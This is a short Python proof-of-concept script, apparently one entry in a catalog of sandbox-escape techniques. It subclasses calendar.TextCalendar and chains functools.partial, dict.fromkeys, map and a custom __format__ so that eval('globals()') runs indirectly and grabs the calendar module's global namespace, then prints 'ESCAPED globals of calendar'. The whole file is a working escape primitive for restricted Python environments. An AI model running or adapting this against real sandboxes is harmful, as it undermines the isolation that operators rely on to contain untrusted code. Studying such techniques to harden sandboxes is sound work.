# technique: calendar calls methods of the subclass
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import calendar
import functools
kept = []


class Show:
    __format__ = staticmethod(functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()']))))


peek = functools.partial('{0}'.format, Show())


class Mine(calendar.TextCalendar):
    formatweekday = staticmethod(peek)


try:
    Mine().formatweekheader(3)
except TypeError:
    pass
if kept[0]['__name__'] == 'calendar':
    print('ESCAPED globals of calendar')
